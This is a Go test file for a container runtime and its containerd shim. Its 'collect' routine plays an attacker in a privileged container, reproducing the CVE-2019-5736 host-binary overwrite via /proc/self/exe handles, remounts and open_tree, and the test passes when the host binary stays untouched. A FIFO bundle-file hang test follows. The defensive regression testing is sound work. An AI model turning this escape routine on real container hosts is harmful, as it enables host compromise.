package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	task "github.com/containerd/containerd/api/runtime/task/v3"
	runc "github.com/containerd/containerd/api/types/runc/options"
	"github.com/containerd/ttrpc"
	"github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/anypb"
)

// attackPath is where the attacker's container has this program.
const attackPath = "/attack"

// collect is the attacker: it takes a handle on the file of every process that it sees execute another file than its own, and
// says so in /held; while /blind exists it looks away. When /go appears it tries to write through the handles, and to make them writable, and says in /result
// what came of it.
func collect() {
	runtime.LockOSThread()
	var own unix.Stat_t
	unix.Stat("/proc/self/exe", &own)
	type file struct {
		pid string
		ino uint64
	}
	held := map[file]int{}
	for {
		var list []os.DirEntry
		if !exists("/blind") {
			list, _ = os.ReadDir("/proc")
		}
		for _, e := range list {
			if c := e.Name()[0]; c < '0' || c > '9' {
				continue
			}
			fd, err := unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			unix.Fstat(fd, &st)
			if _, ok := held[file{e.Name(), st.Ino}]; ok || st.Ino == own.Ino {
				unix.Close(fd)
				continue
			}
			held[file{e.Name(), st.Ino}] = fd
			os.WriteFile("/held", fmt.Appendf(nil, "%d", st.Ino), 0o600)
		}
		if exists("/go") {
			break
		}
	}
	var out strings.Builder
	for f, fd := range held {
		link := "/proc/self/fd/" + strconv.Itoa(fd)
		try := func(what string, err error) { fmt.Fprintf(&out, "%d %s: %v\n", f.ino, what, err) }
		write := func(what string) {
			var f int
			err := error(unix.ETXTBSY) // the kernel takes its time to let go of the file of a process that has ended
			for end := time.Now().Add(5 * time.Second); err == unix.ETXTBSY && time.Now().Before(end); {
				f, err = unix.Open(link, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			}
			if err == nil {
				_, err = unix.Write(f, []byte("overwritten"))
				unix.Close(f)
			}
			try(what, err)
		}
		write("write")
		try("remount", unix.Mount("", link, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
		try("mount_setattr", unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
		try("bind", unix.Mount(link, "/place", "", unix.MS_BIND, ""))
		tree, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.AT_EMPTY_PATH)
		try("open_tree", err)
		if err == nil {
			try("mount_setattr of the copy", unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
		}
		write("write again")
	}
	os.WriteFile("/result.new", []byte(out.String()), 0o600)
	os.Rename("/result.new", "/result")
	select {}
}

// linger is what this program does when a container executes it by a script: it makes the attacker look, now that it is past its
// execve, and lives until that has a handle on its file.
func linger() {
	var own unix.Stat_t
	unix.Stat("/proc/self/exe", &own)
	os.Remove("/blind")
	eventually(func() bool { return holds("/held", own.Ino) })
}

// holds tells whether the attacker took a handle on that file last.
func holds(held string, ino uint64) bool {
	b, _ := os.ReadFile(held)
	return string(b) == strconv.FormatUint(ino, 10)
}

// eventually waits for what no signal tells, and tells whether it came.
func eventually(ok func() bool) bool {
	for end := time.Now().Add(20 * time.Second); !ok(); time.Sleep(time.Millisecond) {
		if time.Now().After(end) {
			return false
		}
	}
	return true
}

// privileged is a container that may do what it likes in its own namespaces, of which pid, when it is not 0, is the process to
// share the pid namespace with.
func privileged(pid int, args ...string) *specs.Spec {
	caps := []string{"CAP_SYS_PTRACE", "CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_MKNOD", "CAP_SETUID", "CAP_KILL"}
	ns := specs.LinuxNamespace{Type: specs.PIDNamespace}
	if pid != 0 {
		ns.Path = fmt.Sprintf("/proc/%d/ns/pid", pid)
	}
	return &specs.Spec{
		Version: specs.Version, Root: &specs.Root{Path: "rootfs"},
		Process: &specs.Process{Args: args, Cwd: "/", Env: []string{"GOMAXPROCS=1"},
			Capabilities: &specs.LinuxCapabilities{Bounding: caps, Effective: caps, Permitted: caps}},
		Mounts: []specs.Mount{{Destination: "/proc", Type: "proc", Source: "proc"}, {Destination: "/dev", Type: "tmpfs", Source: "tmpfs"}},
		Linux: &specs.Linux{
			CgroupsPath: fmt.Sprintf("/gosuda-cmd-test-%d-%d", os.Getpid(), time.Now().UnixNano()),
			Namespaces:  []specs.LinuxNamespace{ns, {Type: specs.MountNamespace}, {Type: specs.IPCNamespace}},
		},
	}
}

// face makes containers by one of the program's faces. To delete what is not there is no error.
type face interface {
	create(id, bundle string) (pid int)
	start(id string)
	delete(id string)
	abandon() // ends what else executes the program's file
}

// TestAttackExeOverwrite: a privileged container takes handles on the files that the processes beside it execute: the runtime's
// own, of an init that waits for its start, and of one whose program is a script for /proc/self/exe. When all those
// processes are gone, and nobody executes the file, it tries to write to it: CVE-2019-5736.
func TestAttackExeOverwrite(t *testing.T) {
	for name, open := range map[string]func(t *testing.T, program string) face{"shim": openShim, "gosudacon": openCLI} {
		t.Run(name, func(t *testing.T) {
			top, err := os.MkdirTemp("", "gosuda")
			if err != nil {
				t.Fatal(err)
			}
			defer os.RemoveAll(top)
			data, err := os.ReadFile("/proc/self/exe")
			if err != nil {
				t.Fatal(err)
			}
			copyTo := func(name string) string {
				name = filepath.Join(top, name)
				if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(name, data, 0o755); err != nil {
					t.Fatal(err)
				}
				return name
			}
			program := copyTo("host/gosudacon")
			rootfs := filepath.Join(top, "a/rootfs")
			copyTo("a/rootfs/attack")
			for _, dir := range []string{"proc", "dev"} {
				os.Mkdir(filepath.Join(rootfs, dir), 0o755)
			}
			os.WriteFile(filepath.Join(rootfs, "place"), nil, 0o755)
			os.WriteFile(filepath.Join(rootfs, "script"), []byte("#!/proc/self/exe -linger\n"), 0o755)
			bundle := func(name string, spec *specs.Spec) string {
				dir := filepath.Join(top, name)
				os.MkdirAll(dir, 0o755)
				spec.Root.Path = rootfs
				text, _ := json.Marshal(spec)
				if err := os.WriteFile(filepath.Join(dir, "config.json"), text, 0o600); err != nil {
					t.Fatal(err)
				}
				return dir
			}
			var host unix.Stat_t
			if err := unix.Stat(program, &host); err != nil {
				t.Fatal(err)
			}
			held := func(what string) {
				t.Helper()
				if !eventually(func() bool { return holds(filepath.Join(rootfs, "held"), host.Ino) }) {
					t.Fatalf("the attacker got no handle on %s: the test shows nothing", what)
				}
			}
			for _, window := range []string{"an init that waits", "a script for /proc/self/exe", "a hook that is such a script"} {
				for _, f := range []string{"held", "go", "result"} {
					os.Remove(filepath.Join(rootfs, f))
				}
				f := open(t, program)
				defer f.delete("thief")
				defer f.delete("victim")
				thief := f.create("thief", bundle("a", privileged(0, attackPath, "collect")))
				f.start("thief")
				victim := privileged(thief, "/script")
				if window == "a hook that is such a script" {
					victim.Process.Args = []string{attackPath, "nothing"}
					victim.Hooks = &specs.Hooks{StartContainer: []specs.Hook{{Path: "/script"}}}
				}
				if window != "an init that waits" { // what it is to see is the process after its execve
					os.WriteFile(filepath.Join(rootfs, "blind"), nil, 0o600)
				}
				f.create("victim", bundle("b", victim))
				if window != "an init that waits" {
					f.start("victim")
				}
				held(window)
				f.delete("victim")
				f.abandon()
				if err := os.WriteFile(filepath.Join(rootfs, "go"), nil, 0o600); err != nil {
					t.Fatal(err)
				}
				var result []byte
				if !eventually(func() bool { result, _ = os.ReadFile(filepath.Join(rootfs, "result")); return len(result) > 0 }) {
					t.Fatal("the attacker says nothing")
				}
				t.Logf("%s:\n%s", window, result)
				writes := 0
				for line := range strings.Lines(string(result)) {
					if how, ok := strings.CutPrefix(line, fmt.Sprintf("%d write", host.Ino)); ok {
						if writes++; !strings.HasSuffix(how, ": read-only file system\n") {
							t.Errorf("%s: %s", window, line)
						}
					}
				}
				if writes < 2 {
					t.Errorf("%s: the attacker did not try: %s", window, result)
				}
				if now, err := os.ReadFile(program); err != nil || !bytes.Equal(now, data) {
					t.Fatalf("%s: the host's file was changed, %v", window, err)
				}
				f.delete("thief")
			}
		})
	}
}

type cliFace struct {
	t       *testing.T
	program string
	root    string
	pids    map[string]int
}

func openCLI(t *testing.T, program string) face {
	return &cliFace{t, program, filepath.Join(filepath.Dir(program), "state"), map[string]int{}}
}

func (c *cliFace) command(args ...string) string {
	c.t.Helper()
	cmd := exec.Command(c.program, append([]string{"--root", c.root}, args...)...)
	out, err := os.CreateTemp(c.t.TempDir(), "out") // a pipe would stay open with the container
	if err != nil {
		c.t.Fatal(err)
	}
	defer out.Close()
	cmd.Stdout, cmd.Stderr = out, out
	err = cmd.Run()
	text, _ := os.ReadFile(out.Name())
	if err != nil {
		c.t.Fatalf("gosudacon %v: %v: %s", args, err, text)
	}
	return string(text)
}

func (c *cliFace) create(id, bundle string) int {
	c.command("create", "--bundle", bundle, id)
	var s specs.State
	if err := json.Unmarshal([]byte(c.command("state", id)), &s); err != nil {
		c.t.Fatal(err)
	}
	c.pids[id] = s.Pid
	return s.Pid
}

func (c *cliFace) start(id string) { c.command("start", id) }

func (c *cliFace) delete(id string) {
	if c.pids[id] == 0 {
		return
	}
	done := make(chan struct{})
	go func() {
		end(c.t, c.pids[id], unix.SIGKILL) // its parent is gone, so it is ours
		close(done)
	}()
	c.command("delete", "--force", id)
	<-done
	delete(c.pids, id)
}

func (c *cliFace) abandon() {}

// shimFace has a shim for each container, as containerd does without pods.
type shimFace struct {
	t       *testing.T
	program string
	shims   map[string]*oneShim
}

type oneShim struct {
	b         *bundle
	pid, init int
	client    *ttrpc.Client
}

func openShim(t *testing.T, program string) face {
	return &shimFace{t: t, program: program, shims: map[string]*oneShim{}}
}

func (s *shimFace) task(id string) (task.TTRPCTaskService, context.Context) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	s.t.Cleanup(cancel)
	return task.NewTTRPCTaskClient(s.shims[id].client), ctx
}

func (s *shimFace) check(err error) {
	s.t.Helper()
	if err != nil {
		s.t.Fatal(err)
	}
}

func (s *shimFace) create(id, dir string) int {
	b := newBundle(s.t, "")
	b.program = s.program
	config, err := os.ReadFile(filepath.Join(dir, "config.json"))
	s.check(err)
	s.check(os.WriteFile(filepath.Join(b.dir, "config.json"), config, 0o600))
	// The program's name makes it the other face; argv[0] is what counts.
	link := filepath.Join(filepath.Dir(s.program), "shim")
	os.Link(s.program, link)
	b.program = link
	address := b.start()
	conn, err := net.Dial("unix", path(address))
	s.check(err)
	s.shims[id] = &oneShim{b: b, pid: shimPid(s.t, address), client: ttrpc.NewClient(conn)}
	client, ctx := s.task(id)
	options, err := proto.Marshal(&runc.Options{Root: b.stateRoot})
	s.check(err)
	r, err := client.Create(ctx, &task.CreateTaskRequest{ID: b.id, Bundle: b.dir,
		Options: &anypb.Any{TypeUrl: "containerd.runc.v1.Options", Value: options}})
	s.check(err)
	s.shims[id].init = int(r.Pid)
	return int(r.Pid)
}

func (s *shimFace) start(id string) {
	client, ctx := s.task(id)
	_, err := client.Start(ctx, &task.StartRequest{ID: s.shims[id].b.id})
	s.check(err)
}

func (s *shimFace) delete(id string) {
	one := s.shims[id]
	if one == nil {
		return
	}
	end(s.t, one.pid, unix.SIGKILL)
	one.client.Close()
	one.b.delete()
	end(s.t, one.init, unix.SIGKILL) // its parent is gone, so it is ours
	delete(s.shims, id)
}

func (s *shimFace) abandon() {
	for _, one := range s.shims {
		end(s.t, one.pid, unix.SIGKILL)
	}
}

// TestAttackBundleFiles: the files that the verbs read in the bundle are FIFOs that nobody writes to. Neither verb waits.
func TestAttackBundleFiles(t *testing.T) {
	for _, name := range []string{"options.json", "address", "exit.json", "init.pid", "config.json"} {
		b := newBundle(t, "")
		file := filepath.Join(b.dir, name)
		os.Remove(file)
		if err := unix.Mkfifo(file, 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := b.command("delete", nil)
		stop := time.AfterFunc(3*time.Second, func() { cmd.Process.Kill() }) // before it would answer for being stuck
		out, err := cmd.Output()
		stop.Stop()
		var r task.DeleteResponse
		if err != nil || proto.Unmarshal(out, &r) != nil || r.ExitStatus != 137 {
			t.Errorf("%s: delete: %v, %v", name, &r, err)
		}
	}
	b := newBundle(t, "")
	config := filepath.Join(b.dir, "config.json")
	os.Remove(config)
	if err := unix.Mkfifo(config, 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := b.command("start", b.params())
	defer time.AfterFunc(3*time.Second, func() { cmd.Process.Kill() }).Stop()
	b.fails(cmd, "config.json: is not a regular file")
}
